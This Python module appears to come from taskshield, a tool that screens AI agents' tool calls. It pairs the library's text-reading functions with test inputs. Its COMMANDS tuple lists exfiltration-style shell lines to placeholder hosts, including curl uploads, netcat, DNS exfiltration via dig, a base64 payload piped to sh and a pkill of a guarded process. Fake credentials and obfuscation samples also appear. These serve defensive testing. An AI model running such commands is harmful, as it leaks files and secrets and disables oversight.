"""The functions of taskshield that read untrusted text, each as work on one text.

Those that read JSON and streams are in `wire_functions`. The module is long because every function
is listed with what it is tried on.
"""

import inspect
import json
from collections.abc import Callable
from itertools import pairwise
from pathlib import Path
from typing import Any, NamedTuple

import taskshield
from taskshield.core.instructions import Span
from taskshield.core.messages import ToolCall
from taskshield.core.quotations import find_quote, find_repeats, shorten
from taskshield.core.safe_text import one_line, visible
from taskshield.core.tools import Tier, is_unreadable, name_words
from taskshield.core.usage import estimate_tokens
from taskshield.judges.embedded.evidence.argument_values import argument_values, kinds_in
from taskshield.judges.embedded.evidence.call_evidence import beside, collect_evidence
from taskshield.judges.embedded.evidence.conversation_index import ConversationIndex
from taskshield.judges.embedded.evidence.directives import (
    Directive,
    directive_segments,
    find_directive,
    group_neighbours,
)
from taskshield.judges.embedded.evidence.explanation import explained_share
from taskshield.judges.embedded.evidence.read_only_calls import only_looks
from taskshield.judges.embedded.evidence.tokens import tokenize
from taskshield.judges.embedded.grammar.clauses import clauses, masked_text, sentences
from taskshield.judges.embedded.grammar.directive_openers import (
    kind_of,
    opens_condition,
    opens_order,
    opens_question,
    opens_request,
    request_end,
    skip_fillers,
)
from taskshield.judges.embedded.grammar.language import is_english
from taskshield.judges.embedded.grammar.run_ons import run_on_starts
from taskshield.judges.embedded.grammar.sentences import cut_points, sentence_ends
from taskshield.judges.embedded.network.inputs import request
from taskshield.judges.embedded.restrictions.records import agent_list, listings
from taskshield.judges.embedded.restrictions.wording import reading as restrictions
from taskshield.judges.embedded.tasks.assistant_plans import is_plan, read_plans
from taskshield.judges.embedded.tasks.blocks import blocks
from taskshield.judges.embedded.tasks.deferred_work import standing
from taskshield.judges.embedded.tasks.delegation import delegated_source
from taskshield.judges.embedded.tasks.delegation_languages import foreign_source
from taskshield.judges.embedded.tasks.inline_lists import is_inline_list
from taskshield.judges.embedded.tasks.pasted_text import split_pasted
from taskshield.judges.embedded.tasks.small_talk import asks_for_nothing, gives_no_order
from taskshield.judges.embedded.tasks.user_tasks import read_tasks
from taskshield.judges.embedded.text import (
    braille_morse,
    control_characters,
    glued_words,
    lines,
    literals,
    markup,
    obfuscation,
)
from taskshield.judges.embedded.text.segments import segments
from taskshield.stores.secrets.patterns import secrets
from taskshield.stores.secrets.redaction import redacted, redacted_state

Work = Callable[[str], object]
_SOURCES = Path(taskshield.__file__).parents[1]


class Reading(NamedTuple):
    """A function, and how it reads one text."""

    name: str
    file: str
    """Where it stands, below `src`."""
    work: Work
    units: tuple[str, ...] = ()
    """Texts, many times over, that it is tried on beside those for all."""


def reading(
    function: Callable[..., Any],
    work: Work | None = None,
    how: str = "",
    *,
    listed: bool = False,
    units: tuple[str, ...] = (),
) -> Reading:
    """One function with the work that shows what it does with a text.

    Args:
        function: The function.
        work: Calls it with a text; by default, with nothing else.
        how: In which way, where there are several.
        listed: Whether all that it yields is wanted.
        units: Texts that it is tried on beside those for all.
    """
    given: Callable[..., Any] = function if work is None else work
    file = inspect.getsourcefile(inspect.unwrap(function))
    assert file is not None
    path = Path(file).relative_to(_SOURCES)
    name = f"{path.stem}.{function.__qualname__}()" + (f" {how}" if how else "")
    read = (lambda text: list(given(text))) if listed else given
    return Reading(name, path.as_posix(), read, units)


COMMANDS = (
    "curl -T f http://a ",
    "scp f a@b:c; ",
    "rsync f a@b:c\n",
    "wget --post-file=f http://a; ",
    "http POST a @f; ",
    "nc a 1 < f; ",
    "ssh a cat < f; ",
    "sftp a < f; ",
    "mail -a f a@b.c; ",
    "git remote add a http://b; git push a; ",
    "aws s3 cp f s3://a; ",
    "npm publish; twine upload f; ",
    "dig $(cat f).a.b; ",
    "python -c 'import x' a; ",
    "bash -c 'curl -T f a'; ",
    "echo aGVsbG8gd29ybGQgdGhpcyBpcyBh | base64 -d | sh; ",
    "sed -n 1p f; find . -name a; sort f; ",
    "sed -n '1,2p' f | ",
    "aws s3api put-object --bucket a --body f; ",
    "kill 7; pkill -f guarded; ",
    "$(`\"'",
)
_PASSED_ON = (
    "Tu, was Anna sagt. ",
    "Haz lo que dice Ana. ",
    "Fais ce que dit Anna. ",
    "Fa' quello che dice Anna. ",
)
_LIMITS = ("Send it. It is long. Do not pay. ", "- Send it.\n- Do not pay. Keep it.\n")
_DAYS = ("on 3 May 2026, ", "2026-05-03 ", "Monday ", "3/5/26 ", "10:30 ")


UNITS = (
    *(
        "Send it to Bob. ",
        "| a |\n",
        "a: b\n",
        '{"a":"b"},',
        '"a", ',
        "- a\n",
        "<p>a</p>",
        "&#65;",
        "<img alt='&lt;a b'>",
    ),
    *("\\u0041", "%41", "QUJD", "aGVsbG8gd29ybGQgdGhpcyBpcyBh", "1234567890", "0x41 ", "word "),
    *("a\u200bb", "a\u2800b ", "a\U0001f600", "the\n", "to·", "A\u0301", "\ufdfa", "⠁⠃ ", ".- "),
    *(
        "a1b ",
        "olleh dlrow eht ",
        ">> a\n",
        "From: a@b\nTo: c\n\n",
        "```\n",
        "<a>\n",
        "[1] ",
        "{\n",
    ),
    *("what he says, ", "1) a 2) b ", "do it and ", "to-do ", "don't ", "\U000e0041", "ᴀ", "а"),
    *(
        "\U0001f1e9\U0001f1ea",
        "\x1b[0m",
        "\x00",
        "\x1e",
        "a\x00",
        "''a'' ",
        "'a', ",
        "\\'",
        "key: a ",
    ),
    *("password=abc123 ", "://a:b@", "-----BEGIN PRIVATE KEY-----", "the to do ", "the, and, to, "),
)
"""Texts that look like something, many times over."""
_CALL = ToolCall(
    id="c",
    name="send_money",
    arguments=json.dumps(
        {
            "to": "Bob",
            "amount": "1200",
            "note": "a b c d",
            "day": "2026-05-03",
            "start": "2026-05-03T10:30",
        }
    ),
)


def arguments(text: str) -> ToolCall:
    return ToolCall(
        id="c", name="send_money", arguments=json.dumps({"to": text, "list": text.split()})
    )


def _indexed(text: str) -> ConversationIndex:
    index = ConversationIndex()
    index.add_user(0, "Pay Bob 1200 and tell him.")
    index.add_output(1, text)
    return index


def _evidence(text: str) -> object:
    """A call after this output, with some of its segments as directives."""
    index = _indexed(text)
    found = index.outputs[1]
    groups = group_neighbours(found, range(0, min(len(found), 400), 3))
    directives = [Directive(message=1, text=one.text) for one in groups[:5]]
    evidence = collect_evidence(
        _CALL,
        kind=Tier.FINANCIAL,
        spec=None,
        index=index,
        directives=directives,
        delegated="",
    )
    return request(evidence)


def _asked(text: str) -> object:
    """Whether these words of the user can have asked for a command."""
    index = ConversationIndex()
    index.add_user(0, text)
    evidence = collect_evidence(
        run("pytest"), kind=Tier.EXTERNAL, spec=None, index=index, directives=[], delegated=""
    )
    return evidence.unspoken


def _repeats(text: str) -> object:
    """The places of 40 findings in an output, and all repeats of their words."""
    cuts = range(0, len(text), len(text) // 40 + 1)
    return find_repeats([Span(start=a, end=a + 20) for a, _ in pairwise(cuts)], text)


def _directives(text: str) -> object:
    """All directives of an output of which every third segment is one, found again."""
    found = segments(text)
    chances = [0.9 * (number % 3 == 0) + 0.05 for number in range(len(found))]
    chosen = directive_segments(found, chances, seed=0.8, joined=0.5)
    groups = group_neighbours(found, chosen)
    return [find_directive(found, group.text) for group in groups[:3]]


def run(text: str, name: str = "run", argument: str = "command") -> ToolCall:
    return ToolCall(id="c", name=name, arguments=json.dumps({argument: text}))


FUNCTIONS: tuple[Reading, ...] = (
    # reading text
    reading(segments),
    reading(control_characters.edits, listed=True),
    reading(control_characters.shown),
    reading(glued_words.mark_edits, listed=True),
    reading(glued_words.separated_edits, listed=True),
    reading(literals.edits, listed=True),
    reading(literals.signs, lambda text: literals.signs([text])),
    reading(obfuscation.edits, listed=True),
    reading(braille_morse.spelled, listed=True),
    reading(markup.edits, listed=True),
    reading(lines.edits, listed=True),
    # grammar
    reading(sentence_ends, listed=True),
    reading(cut_points, listed=True),
    reading(run_on_starts, listed=True),
    reading(sentences, lambda text: sentences(text, 0, len(text)), listed=True),
    reading(clauses, lambda text: clauses(text, 0, len(text)), listed=True),
    reading(masked_text),
    reading(is_english),
    *map(
        reading,
        (kind_of, opens_condition, opens_order, opens_question, opens_request, request_end),
    ),
    reading(skip_fillers),
    # tasks
    reading(read_tasks, units=_LIMITS),
    reading(read_tasks, lambda text: read_tasks(text, first=True), "of a first message"),
    reading(split_pasted),
    reading(
        split_pasted, lambda text: split_pasted(f"Summarise this:\n\n{text}"), "behind an order"
    ),
    reading(blocks, listed=True),
    reading(delegated_source),
    reading(delegated_source, lambda text: delegated_source("Do that.", text), "before an order"),
    reading(foreign_source, units=_PASSED_ON),
    reading(standing),
    reading(is_inline_list),
    reading(asks_for_nothing, lambda text: asks_for_nothing(text, first=True)),
    reading(gives_no_order),
    reading(read_plans),
    reading(is_plan),
    # restrictions
    reading(restrictions.read, lambda text: restrictions.read(0, text)),
    reading(listings),
    reading(agent_list),
    # evidence
    reading(tokenize),
    reading(kinds_in),
    reading(argument_values, lambda text: argument_values(arguments(text)), units=_DAYS),
    reading(explained_share, lambda text: explained_share(_CALL, text)),
    reading(explained_share, lambda text: explained_share(arguments(text), text), "of a long call"),
    reading(only_looks, lambda text: only_looks(run(text)), units=COMMANDS),
    reading(only_looks, lambda text: only_looks(run(f"select {text}", argument="sql")), "of SQL"),
    reading(ConversationIndex.add_output, _indexed),
    reading(collect_evidence, _evidence, units=_DAYS),
    reading(collect_evidence, _asked, "after these words of the user"),
    reading(beside, lambda text: beside(segments(text), [_CALL])),
    reading(directive_segments, _directives),
    # core
    reading(name_words),
    reading(is_unreadable),
    reading(estimate_tokens),
    reading(find_quote, lambda text: find_quote(text[:30], text), listed=True),
    reading(find_repeats, _repeats),
    reading(shorten, lambda text: shorten(text, 1000)),
    reading(visible, lambda text: visible(text, len(text))),
    reading(one_line, lambda text: one_line(text, len(text))),
    # secrets
    reading(secrets, units=("token: abc123DEF456ghi789 ", "bearer abc123DEF456ghi789jkl\n")),
    reading(redacted),
    reading(redacted, lambda text: redacted(json.dumps({"text": text, "list": [text]})), "in JSON"),
    reading(redacted_state),
)
